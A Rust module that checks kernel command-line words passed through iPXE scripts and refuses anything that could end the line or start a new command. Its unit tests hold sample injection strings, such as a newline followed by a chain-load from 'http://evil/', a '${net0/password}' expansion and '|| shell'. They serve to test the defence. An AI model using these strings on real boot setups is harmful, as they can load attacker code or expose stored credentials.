//! A kernel command line as a list of checked words: nothing in it can end the line or start another command.
//!
//! The words travel inside an iPXE script, where a newline begins a new command, `${` expands a setting, and `||`, `&&`,
//! `;` and `#` standing alone have a meaning (CVE-2026-46447: a newline in `kernel_append_params` injected script lines).
//! So a word is printable ASCII without white space, quotes, backslash and those; whatever is not a word is refused with
//! a sentence, never repaired silently. Values with spaces do not exist on this path (agent-protocol section 17).

use std::fmt;

/// Longest command line, bytes: x86 kernels cut at 2048.
pub const MAX_LINE: usize = 2000;

/// Characters that are printable but have a meaning to iPXE, GRUB or the kernel's own quoting.
const REFUSED: &[char] = &['"', '\'', '\\', '`', '<', '>', '|', ';', '{', '}'];

/// Why a text is no kernel argument.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum BadKernelArgs {
    /// A character that could leave the word.
    #[error(
        "kernel arguments must not contain {0}; allowed are printable ASCII characters except quotes, backslash and <>|;{{}}`"
    )]
    Character(String),
    /// A word with a meaning of its own.
    #[error("the kernel argument {0:?} has a meaning of its own to boot loaders and is refused; remove it")]
    Operator(String),
    /// A quote without its end, or a quoted text with a space.
    #[error("kernel arguments must not contain {0}: values with spaces cannot be passed to the ramdisk")]
    Quotes(&'static str),
    /// Longer than kernels read.
    #[error("the kernel arguments are {0} bytes long; at most {MAX_LINE} are passed on. Shorten kernel_append_params")]
    TooLong(usize),
    /// Empty word or key.
    #[error("a kernel argument must not be empty")]
    Empty,
}

/// One word of the line, such as `quiet` or `console=ttyS0,115200n8`.
#[derive(Clone, PartialEq, Eq, Hash)]
pub struct KernelWord(String);

impl KernelWord {
    /// Checks one word.
    pub fn new(word: &str) -> Result<Self, BadKernelArgs> {
        if word.is_empty() {
            return Err(BadKernelArgs::Empty);
        }
        if word.len() > MAX_LINE {
            return Err(BadKernelArgs::TooLong(word.len()));
        }
        if let Some(bad) = word.chars().find(|&c| !c.is_ascii_graphic() || REFUSED.contains(&c)) {
            return Err(BadKernelArgs::Character(name_of(bad)));
        }
        // `--` hands everything after it to init, and with it the words this conductor adds.
        if word.starts_with('#') || word.contains("&&") || matches!(word, "&" | "--" | "=") {
            return Err(BadKernelArgs::Operator(word.chars().take(40).collect()));
        }
        Ok(Self(word.to_owned()))
    }

    /// `key=value`.
    pub fn pair(key: &str, value: impl fmt::Display) -> Result<Self, BadKernelArgs> {
        Self::new(&format!("{key}={value}"))
    }

    /// The text before `=`, or all of it.
    pub fn key(&self) -> &str {
        self.0.split_once('=').map_or(self.0.as_str(), |(key, _)| key)
    }

    /// The word.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl fmt::Debug for KernelWord {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

fn name_of(c: char) -> String {
    match c {
        '\n' | '\r' => "line breaks".into(),
        '\0' => "NUL".into(),
        c if c.is_control() => format!("the control character U+{:04X}", c as u32),
        c if c.is_ascii_whitespace() => "white space inside a word".into(),
        c if c.is_ascii() => format!("the character {c}"),
        c => format!("the character U+{:04X}, which is not ASCII", c as u32),
    }
}

/// A whole command line. Later words win over earlier ones with the same key (agent-protocol section 17).
#[derive(Clone, Debug, Default, PartialEq, Eq, Hash)]
pub struct KernelArgs(Vec<KernelWord>);

impl KernelArgs {
    /// Splits at spaces and tabs and checks every word. Double quotes around text without spaces are dropped, as the
    /// kernel does; around text with spaces they are an error.
    pub fn parse(text: &str) -> Result<Self, BadKernelArgs> {
        if text.len() > MAX_LINE {
            return Err(BadKernelArgs::TooLong(text.len()));
        }
        let mut words = Vec::new();
        let (mut word, mut quoted) = (String::new(), false);
        for c in text.chars() {
            match c {
                '"' => quoted = !quoted,
                ' ' | '\t' if quoted => return Err(BadKernelArgs::Quotes("a quoted text with spaces")),
                ' ' | '\t' => take_word(&mut word, &mut words)?,
                c => word.push(c),
            }
        }
        if quoted {
            return Err(BadKernelArgs::Quotes("a double quote without its end"));
        }
        take_word(&mut word, &mut words)?;
        Ok(Self(words))
    }

    /// Adds a word at the end.
    pub fn push(&mut self, word: KernelWord) {
        self.0.push(word);
    }

    /// Adds all words of another line at the end.
    pub fn extend(&mut self, other: &KernelArgs) {
        self.0.extend(other.0.iter().cloned());
    }

    /// There is a word with this key.
    pub fn has(&self, key: &str) -> bool {
        self.0.iter().any(|word| word.key() == key)
    }

    /// The words in order.
    pub fn words(&self) -> impl Iterator<Item = &KernelWord> {
        self.0.iter()
    }

    /// An error when the line is longer than kernels read.
    pub fn check_length(&self) -> Result<(), BadKernelArgs> {
        match self.to_string().len() {
            length if length > MAX_LINE => Err(BadKernelArgs::TooLong(length)),
            _ => Ok(()),
        }
    }
}

fn take_word(word: &mut String, words: &mut Vec<KernelWord>) -> Result<(), BadKernelArgs> {
    if !word.is_empty() {
        words.push(KernelWord::new(word)?);
        word.clear();
    }
    Ok(())
}

impl fmt::Display for KernelArgs {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for (index, word) in self.0.iter().enumerate() {
            if index > 0 {
                f.write_str(" ")?;
            }
            f.write_str(&word.0)?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::{any, prop_assert, prop_assert_eq, proptest};

    #[test]
    fn ordinary_lines_pass_unchanged() {
        for line in [
            "nofb vga=normal console=tty0 console=ttyS0,115200n8",
            "rootpwd=$6$salt$hash. ipa-api-url=http://10.0.0.1:6385/?a=b&c=d#top [x] ip=::1 a%20b~!@^*()",
        ] {
            assert_eq!(KernelArgs::parse(line).unwrap().to_string(), line);
        }
        assert_eq!(KernelArgs::parse(" \t quiet  a=\"b\" ").unwrap().to_string(), "quiet a=b");
    }

    #[test]
    fn what_could_leave_the_word_is_refused_and_named() {
        for (line, says) in [
            ("quiet\nchain http://evil/", "line breaks"),
            ("quiet\rshell", "line breaks"),
            ("a\0b", "NUL"),
            ("a\x1b[2J", "U+001B"),
            ("a=${net0/password}", "the character {"),
            ("a || shell", "the character |"),
            ("a && shell", "&&"),
            ("a ; shell", "the character ;"),
            ("a # rest", "#"),
            ("a -- b", "--"),
            ("a='b'", "'"),
            ("a\\ b", "\\"),
            ("a=\"b c\"", "spaces"),
            ("a=\"b", "without its end"),
            ("caf\u{e9}", "U+00E9"),
            ("a\u{2028}b", "U+2028"),
        ] {
            let error = KernelArgs::parse(line).unwrap_err().to_string();
            assert!(error.contains(says), "{line:?}: {error}");
        }
        assert!(matches!(KernelArgs::parse(&"a".repeat(MAX_LINE + 1)), Err(BadKernelArgs::TooLong(_))));
    }

    proptest! {
        #[test]
        fn whatever_is_accepted_is_one_harmless_line(text in any::<String>()) {
            if let Ok(args) = KernelArgs::parse(&text) {
                let line = args.to_string();
                prop_assert!(line.bytes().all(|byte| (0x20..0x7f).contains(&byte)), "{line:?}");
                prop_assert!(!["${", "||", "&&"].iter().any(|text| line.contains(text)), "{}", line);
                prop_assert!(line.split(' ').all(|word| word != ";" && !word.starts_with('#')));
                // What was printed is read back as the same words: no word hides another.
                prop_assert_eq!(KernelArgs::parse(&line).unwrap(), args);
            }
        }

        #[test]
        fn hostile_printable_text_too(text in "[ -~\n\r\t]{0,200}") {
            if let Ok(args) = KernelArgs::parse(&text) {
                let line = args.to_string();
                prop_assert!(!line.contains(['\n', '\r', '\t', '"', '\'', '\\', ';', '|', '{']), "{line:?}");
            }
        }
    }
}
